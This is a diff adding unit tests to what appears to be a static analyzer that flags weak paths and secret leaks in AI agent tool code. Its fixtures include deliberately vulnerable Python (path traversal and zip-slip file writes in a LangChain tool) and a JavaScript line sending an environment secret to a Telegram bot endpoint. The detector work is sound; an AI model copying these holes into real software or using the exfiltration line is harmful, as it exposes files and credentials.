@@ -247,6 +247,50 @@ TEST(Flow, AFileNamedLikeALibraryDoesNotHideIt) {
   EXPECT_THAT(RulesOf(package.Analyze()), testing::Contains("VULN-001"));
 }
 
+// A name that may not climb is checked; a folder that the tool asks for is the caller's to choose.
+TEST(Flow, APathIsWeakWhereACallerMayClimbOutOfAFolder) {
+  const std::string head =
+      "import os, zipfile\nfrom pathlib import Path\nfrom langchain_core.tools import tool\n"
+      "HOME = '/srv/notes'\n";
+  const auto weight = [&](const std::string& rest) {
+    double most = 0.0;
+    for (const RawFinding& finding : FactsOf("a.py", head + rest).findings) {
+      if (finding.rule == "VULN-003") most = std::max(most, finding.scale);
+    }
+    return most;
+  };
+  const auto keep = [](const std::string& name) {
+    return "def keep(" + name + "):\n    with open(os.path.join(HOME, " + name +
+           "), 'w') as f:\n        f.write('x')\n" + "@tool\ndef save(" + name + ": str):\n    keep(" + name + ")\n";
+  };
+  EXPECT_GT(weight(keep("title")), 0.6);
+  EXPECT_LT(weight(keep("output_directory")), 0.6);
+  EXPECT_GT(weight(keep("output_directory")), 0.0);
+  const auto unpack = [&](const std::string& check) {
+    return weight(
+        "@tool\ndef unpack(data: str):\n    with zipfile.ZipFile(data) as z:\n        for info in z.infolist():\n" +
+        check + "            open(os.path.join(HOME, info.filename), 'wb').write(z.read(info))\n");
+  };
+  EXPECT_GT(unpack(""), 0.6);
+  EXPECT_EQ(unpack("            if '..' in Path(info.filename).parts:\n                raise ValueError(info)\n"), 0.0);
+  EXPECT_EQ(
+      weight("@tool\ndef unpack(data: str):\n    with zipfile.ZipFile(data) as z:\n        for name in z.namelist():\n"
+             "            z.extract(name, HOME)\n"),
+      0.0);
+}
+
+// What a key locks or opens is not the key.
+TEST(Flow, AKeyDoesNotTravelInWhatItOpens) {
+  const std::string head =
+      "const { createDecipheriv, pbkdf2Sync } = require('crypto');\n"
+      "const bot = (t) => fetch(`https://api.telegram.org/bot${t}/send`, { method: 'POST', body: t });\n";
+  EXPECT_THAT(RulesOf(FactsOf("a.js", head + "bot(process.env.AUTH_SECRET);\n")), testing::Contains("EXFIL-003"));
+  EXPECT_THAT(RulesOf(FactsOf("a.js", head + "const key = pbkdf2Sync(process.env.AUTH_SECRET, 's', 9, 32, 'sha256');\n"
+                                             "const d = createDecipheriv('aes-256-gcm', key, iv);\n"
+                                             "bot(d.update(kept) + d.final());\n")),
+              testing::Not(testing::Contains("EXFIL-003")));
+}
+
 TEST(Flow, TheSameTwice) {
   const std::string text = Read(fs::path(INTERLOCK_TESTDATA) / "flow" / "hidden_names.py");
   const CodeFacts a = FactsOf("a.py", text);
